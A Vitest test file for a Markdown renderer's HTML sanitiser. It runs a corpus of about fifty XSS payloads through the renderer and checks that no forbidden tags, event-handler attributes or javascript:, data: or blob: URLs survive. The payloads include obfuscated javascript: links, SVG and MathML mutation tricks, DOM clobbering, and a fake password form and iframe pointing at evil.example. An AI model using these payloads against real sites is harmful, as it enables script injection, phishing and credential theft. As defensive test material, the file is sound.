// @vitest-environment jsdom
// happy-dom parses fragments differently from browsers, and DOMPurify loses text over it.
import { describe, expect, it } from 'vitest';
import { renderBlock } from './render-block';
import { splitDocument } from './split';
import { testWords } from './test-words';

/** Every element and attribute that came through, whatever the document was. */
function rendered(markdown: string): HTMLElement {
  const split = splitDocument(markdown);
  const root = document.createElement('div');
  for (const block of split.blocks) root.append(renderBlock(block, split, testWords));
  return root;
}

const FORBIDDEN = 'script, style, form, iframe, object, embed, svg, math, button, textarea, select, base, meta, link, template, dialog, video, audio, input:not(.md-task)';

function assertHarmless(root: HTMLElement): void {
  expect([...root.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)).toEqual([]);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^action$|^contenteditable$|^popover|^xlink|^is$|^slot$/i);
      if (name === 'href' || name === 'src') {
        // eslint-disable-next-line no-control-regex -- what a browser skips before it reads the scheme
        const bare = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        expect(bare).not.toMatch(/^(?:javascript|vbscript|file|blob|data:(?!image\/))/);
        if (name === 'href') expect(bare).not.toMatch(/^data:/);
      }
      if (name === 'class') expect(value).toMatch(/^(?:(?:md-|language-)[\w+#.-]+\s*)+$/);
      if (name === 'id' || (name === 'name' && element.tagName !== 'META')) expect(value).toMatch(/^user-content-/);
    }
  }
}

const corpus: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script inside a paragraph': 'hello <script>alert(1)</script> world',
  'broken script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'event handler': '<img src=x onerror=alert(1)>',
  'event handler, odd quoting': '<img src="x"onerror="alert(1)"/onload=alert(2)>',
  'event handler on details': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'javascript link': '[x](javascript:alert(1))',
  'javascript link in mixed case': '[x](JaVaScRiPt:alert(1))',
  'javascript link with entities': '[x](&#106;avascript:alert(1))',
  'javascript link with hex entities': '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  'javascript link with a tab': '<a href="java&#9;script:alert(1)">x</a>',
  'javascript link with a newline': '<a href="java&NewLine;script:alert(1)">x</a>',
  'javascript link after a control character': '<a href="&#1;javascript:alert(1)">x</a>',
  'javascript link with leading space': '<a href="  javascript:alert(1)">x</a>',
  'javascript autolink': '<javascript:alert(1)>',
  'javascript reference': '[x][y]\n\n[y]: javascript:alert(1)',
  'javascript image': '![x](javascript:alert(1))',
  'vbscript link': '[x](vbscript:msgbox(1))',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data svg link': '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  'data html image': '<img src="data:text/html,<script>alert(1)</script>">',
  'blob link': '[x](blob:https://example.org/1)',
  svg: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'style overlay': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Enter your password</div>',
  'style element': '<style>body{display:none}</style>',
  'style import': '<style>@import url(https://evil.example/x.css)</style>',
  'class overlay': '<div class="dialog-backdrop menu toast fixed">cover</div>',
  form: '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
  'lone input': '<input type=password autofocus onfocus=alert(1)>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="x">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">',
  'clobbering ids': '<a id=body></a><img name=cookie><a id=defaultView name=location href=x>x</a>',
  'clobbering a heading anchor': '<h1 id="root">x</h1><a name="createElement">y</a>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by comment': '<!--><img src=x onerror=alert(1)>-->',
  'mutation by template': '<template><img src=x onerror=alert(1)></template>',
  'mutation by nesting': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'custom element': '<x-evil is="script" onclick=alert(1)>x</x-evil>',
  contenteditable: '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  popover: '<button popovertarget=x>y</button><div popover id=x>cover</div>',
  'code that looks like html': '```html\n<script>alert(1)</script>\n```',
  'language that leaves its attribute': '```"><img/src=x/onerror=alert(1)>\nx\n```',
  'image alt': '![" onerror="alert(1)](https://example.org/x.png)',
  'link title': '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
  'footnote label': 'x[^"><img/src/onerror=alert(1)>]\n\n[^"><img/src/onerror=alert(1)>]: <script>alert(1)</script>',
  'footnote text': 'x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))',
  math: '$<img src=x onerror=alert(1)>$ and $$\n<script>alert(1)</script>\n$$',
  'front matter': '---\ntitle: <script>alert(1)</script>\n---\ntext',
  'table cell': '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  task: '- [ ] <img src=x onerror=alert(1)>',
  'forged task place': '<span class="md-task-place" data-task-line="0" data-task-done="true" onclick="alert(1)">x</span>',
};

describe('Markdown that attacks', () => {
  it.each(Object.entries(corpus))('%s', (_name, markdown) => {
    assertHarmless(rendered(markdown));
  });

  it('survives nesting without end', () => {
    assertHarmless(rendered(`${'> '.repeat(5000)}x`));
    assertHarmless(rendered(`${'<div>'.repeat(3000)}x`));
    assertHarmless(rendered(`${'['.repeat(5000)}x`));
  });

  it('gives external links nothing to hold on to', () => {
    const link = rendered('[x](https://example.org)').querySelector('a');
    expect(link?.getAttribute('rel')).toContain('noopener');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('leaves what is meant', () => {
    const html = rendered('**b** _i_ `c` [l](./x.md#y) <kbd>K</kbd> <details><summary>s</summary>d</details>').innerHTML;
    for (const part of ['<strong>b</strong>', '<em>i</em>', '<code>c</code>', 'href="./x.md#y"', '<kbd>K</kbd>', '<summary>s</summary>']) {
      expect(html).toContain(part);
    }
  });
});
